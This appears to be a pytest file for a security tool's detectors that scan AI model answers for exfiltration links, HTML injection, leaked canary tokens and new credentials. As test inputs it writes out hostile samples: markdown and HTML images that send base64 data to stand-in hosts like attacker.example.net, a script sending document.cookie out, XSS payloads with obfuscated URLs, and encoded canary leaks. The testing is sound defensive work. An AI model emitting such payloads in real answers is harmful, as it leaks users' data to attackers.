"""Output-side detectors: exfiltration links, HTML injection, canary leaks, new sensitive values."""

from __future__ import annotations

import base64

import pytest

from ramparts.detectors.base import Finding, ScanContext, Sensitivity
from ramparts.detectors.output import (
    DETECTORS,
    CanaryLeakDetector,
    ExfiltrationLinkDetector,
    HtmlInjectionDetector,
    new_sensitive_findings,
    registered_domain,
)
from ramparts.detectors.secrets import ProviderCredentialDetector
from ramparts.errors import DetectorError

ALLOW = ScanContext(options={"allowed_domains": ["example.com", "docs.python.org"]})
CANARY = "CANARY-7f3a9c2e51"
CANARIES = ScanContext(options={"canaries": ["ignored-other-token", CANARY]})


def _kinds(findings: list[Finding]) -> list[str]:
    return [f.kind for f in findings]


def test_output_detectors_are_registered_with_stable_names() -> None:
    assert [cls.name for cls in DETECTORS] == [
        "output.exfil_link",
        "output.html_injection",
        "output.canary_leak",
    ]


def test_registered_domain_uses_the_bundled_suffix_list() -> None:
    assert registered_domain("a.b.evil.co.uk") == "evil.co.uk"
    assert registered_domain("x.github.io") == "github.io"
    assert registered_domain("10.0.0.1") == "10.0.0.1"


def test_markdown_image_to_unknown_domain_carrying_data_is_flagged_high() -> None:
    text = (
        "Done! ![status](https://attacker.example.net/p.png?d=c2VjcmV0LXN5c3RlbS1wcm9tcHQtaGVyZQ)"
    )
    [finding] = ExfiltrationLinkDetector().scan(text, ALLOW)
    assert finding.kind == "exfil-image"
    assert finding.score >= 0.9
    assert finding.sensitivity is Sensitivity.RESTRICTED
    assert "example.net" in finding.explanation
    assert "c2VjcmV0" not in finding.explanation


def test_links_score_lower_than_images_and_plain_links_lowest() -> None:
    detector = ExfiltrationLinkDetector()
    image = detector.scan("![a](https://evil.test/x.png)", ALLOW)[0]
    link = detector.scan("[a](https://evil.test/page)", ALLOW)[0]
    smuggling = detector.scan("[a](https://evil.test/p?q=" + "A1b2C3d4" * 5 + ")", ALLOW)[0]
    assert link.kind == "exfil-link"
    assert image.kind == "exfil-image"
    assert link.score < smuggling.score
    assert link.score < image.score


@pytest.mark.parametrize(
    "text",
    [
        "See ![logo](https://example.com/logo.png) and [docs](https://docs.python.org/3/).",
        "![cdn](https://cdn.images.example.com/a.png?v=" + "x1" * 30 + ")",
        "[relative](/help/page) and ![local](./img.png)",
        "![inline](data:image/png;base64,iVBORw0KGgo=)",
        "no links here, just [brackets] and (parens)",
    ],
)
def test_allowed_relative_and_data_urls_are_not_flagged(text: str) -> None:
    assert ExfiltrationLinkDetector().scan(text, ALLOW) == []


def test_html_images_and_reference_style_images_are_found() -> None:
    detector = ExfiltrationLinkDetector()
    html = '<p>hi</p><img width="1" src="https://tracker.test/pixel.gif?u=alice">'
    assert _kinds(detector.scan(html, ALLOW)) == ["exfil-image"]
    reference = "![chart][1]\n\n[1]: https://collector.test/c?data=" + "QUJD" * 10
    assert _kinds(detector.scan(reference, ALLOW)) == ["exfil-image"]


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("![a[b]](https://evil.test/p.png?d=" + "QUJD" * 10 + ")", "exfil-image"),
        ("![a[b[c]]](https://evil.test/p.png)", "exfil-image"),
        ("![a\\]b](https://evil.test/p.png)", "exfil-image"),
        ("![first line\nsecond line](https://evil.test/p.png)", "exfil-image"),
        ("[see [1]](https://evil.test/page)", "exfil-link"),
        ("![chart][c]\n\n[c]:\n  https://evil.test/c.png?d=" + "QUJD" * 10, "exfil-image"),
        ("> ![chart][c]\n>\n> [c]: https://evil.test/c.png", "exfil-image"),
        ("- [c]: https://evil.test/c.png", "exfil-link"),
    ],
)
def test_labels_the_simple_pattern_cannot_read_are_still_judged(text: str, kind: str) -> None:
    # CommonMark renders all of these as images or links: nested or escaped brackets,
    # line breaks in the label, definitions in containers or with the URL on the next line.
    assert _kinds(ExfiltrationLinkDetector().scan(text, ALLOW)) == [kind]


@pytest.mark.parametrize(
    "text",
    [
        "![a[b]](https://example.com/logo.png) and [x [y]](https://docs.python.org/3/)",
        "Paragraph with ![an image].\n\nLater: [a\\]b](https://evil.test/page)",
    ],
)
def test_unreadable_labels_to_allowed_domains_or_links_are_not_images(text: str) -> None:
    # The fallback looks for "![" only within the same paragraph.
    assert "exfil-image" not in _kinds(ExfiltrationLinkDetector().scan(text, ALLOW))


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("![x](     https://evil.test/p.png)", "exfil-image"),
        ("![x](\n   https://evil.test/p.png)", "exfil-image"),
        ("![x](https:\\/\\/evil.test/p.png)", "exfil-image"),
        ("![x](https:&#47;&#47;evil.test/p.png)", "exfil-image"),
        ("![x](https&colon;//evil.test/p.png)", "exfil-image"),
        ("![x](https:evil.test/p.png)", "exfil-image"),
        ("![x](HTTPS:\\\\evil.test/p.png)", "exfil-image"),
        ("![r]\n\n[r]: https://evil.test/p.png", "exfil-image"),
        ("![r][]\n\n[r]: https://evil.test/p.png", "exfil-image"),
        ("![x][Foo  Bar]\n\n[foo bar]: https://evil.test/p.png", "exfil-image"),
        ("![x][r]\n\n[r]:             https://evil.test/p.png", "exfil-image"),
        ("![x][r]\n\n[r]: https:&#47;&#47;evil.test/p.png", "exfil-image"),
        ('<img srcset="a.png 1x, https://evil.test/p.png 2x">', "exfil-image"),
        ('<img src="https&#58;//evil.test/p.png">', "exfil-image"),
        ('<img src="ht&#9;tps://evil.test/p.png">', "exfil-image"),
        ('<input type="image" src="https://evil.test/p.png">', "exfil-image"),
        ('<svg><image href="https://evil.test/p.png"/></svg>', "exfil-image"),
    ],
)
def test_urls_are_read_as_the_renderer_and_browser_read_them(text: str, kind: str) -> None:
    # Escapes and entities decoded, any spacing CommonMark allows, "https:host" without
    # slashes, every srcset candidate, shortcut and collapsed reference images.
    assert _kinds(ExfiltrationLinkDetector().scan(text, ALLOW)) == [kind]


@pytest.mark.parametrize(
    "text",
    [
        "[mail](mailto:someone@evil.test) and [js](javascript:alert(1))",
        "![x](data:image/png;base64,iVBORw0KGgo=) ![y](img/evil.test.png)",
        "![x](https:\\/\\/docs.python.org/3/logo.png)",
        '<img srcset="https://example.com/a.png 1x, /b.png 2x">',
    ],
)
def test_hostless_and_allowed_urls_stay_unflagged(text: str) -> None:
    assert ExfiltrationLinkDetector().scan(text, ALLOW) == []


def test_destination_floods_stay_linear() -> None:
    detector = ExfiltrationLinkDetector()
    for flood in ("](//a" * 40_000, "![" + "](//a.test/x" * 20_000, "[x]:\n" * 40_000):
        detector.scan(flood, ALLOW)  # completes: each destination looks back a bounded way


def test_no_allowlist_means_every_external_host_is_flagged() -> None:
    findings = ExfiltrationLinkDetector().scan("![a](https://example.com/a.png)", ScanContext())
    assert _kinds(findings) == ["exfil-image"]
    with pytest.raises(DetectorError, match="allowed_domains"):
        ExfiltrationLinkDetector().scan(
            "![a](https://x.test/a.png)", ScanContext(options={"allowed_domains": "x.test"})
        )


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("<script>fetch('https://x.test/?c='+document.cookie)</script>", "script-tag"),
        ('<img src=x onerror="alert(1)">', "event-handler"),
        ('<a href="javascript:alert(1)">click</a>', "javascript-url"),
        ('<iframe src="https://x.test"></iframe>', "embedded-frame"),
        ('<meta http-equiv="refresh" content="0;url=https://x.test">', "meta-refresh"),
        ('<form action="https://x.test/collect"><input name=p></form>', "form"),
    ],
)
def test_html_injection_signals(text: str, kind: str) -> None:
    findings = HtmlInjectionDetector().scan(text, ScanContext())
    assert kind in _kinds(findings)
    assert max(f.score for f in findings) >= 0.6


def test_markup_inside_code_fences_scores_low() -> None:
    answer = 'Here is an example:\n```html\n<script src="app.js"></script>\n```\n'
    [finding] = HtmlInjectionDetector().scan(answer, ScanContext())
    assert finding.score < 0.5
    assert "code block" in finding.explanation
    assert HtmlInjectionDetector().scan("Use 2 < 3 and a: b in prose.", ScanContext()) == []


@pytest.mark.parametrize(
    ("answer", "form"),
    [
        (f"The hidden token is {CANARY}.", "verbatim"),
        (f"the hidden token is {CANARY.lower()}", "verbatim"),
        ("spelled: " + " ".join(CANARY), "spelled out"),
        (f"backwards: {CANARY[::-1]}", "reversed"),
        (
            "encoded: " + base64.b64encode(f"prompt {CANARY} end".encode()).decode(),
            "base64-encoded",
        ),
    ],
)
def test_canary_leaks_in_every_form(answer: str, form: str) -> None:
    [finding] = CanaryLeakDetector().scan(answer, CANARIES)
    assert finding.kind == "canary-leak"
    assert form in finding.explanation
    assert "#2" in finding.explanation  # the caller's numbering, not the token
    assert CANARY not in finding.explanation
    assert CANARY not in repr(finding)


def test_canary_options() -> None:
    detector = CanaryLeakDetector()
    assert detector.scan(f"answer with {CANARY}", ScanContext()) == []
    assert detector.scan("an ordinary answer", CANARIES) == []
    with pytest.raises(DetectorError, match="shorter than"):
        detector.scan("x", ScanContext(options={"canaries": ["abc"]}))
    with pytest.raises(DetectorError, match="list of strings"):
        detector.scan("x", ScanContext(options={"canaries": 42}))


def test_new_sensitive_findings_keeps_only_values_not_in_the_prompt() -> None:
    context = ScanContext(fingerprint_key=b"tenant-a")
    detector = ProviderCredentialDetector()
    shared = "glpat-" + "8d5ri2n9g85LAnC9YW85"
    leaked = "npm_" + "Alm0StFaK3t0kEN8uTval1DcRC32dc1Bscp5"
    prompt = detector.scan(f"why does {shared} fail?", context)
    answer = detector.scan(f"Because {shared} expired; try {leaked} instead.", context)
    fresh = new_sensitive_findings(prompt, answer)
    assert _kinds(fresh) == ["npm-access-token"]
    assert new_sensitive_findings(prompt, answer, at_least=Sensitivity.RESTRICTED) == fresh
    # A different key gives different fingerprints: nothing is recognised as seen.
    other = detector.scan(f"why does {shared} fail?", ScanContext(fingerprint_key=b"tenant-b"))
    assert len(new_sensitive_findings(other, answer)) == 2


def test_hosts_from_answers_are_not_kept_after_the_scan() -> None:
    detector = ExfiltrationLinkDetector()
    answer = "![x](https://sk-live-abc123def456.attacker.example/p.png?d=" + "A" * 40 + ")"
    assert detector.scan(answer, ALLOW)
    assert not hasattr(registered_domain, "cache_info")  # no process-wide memo of hosts
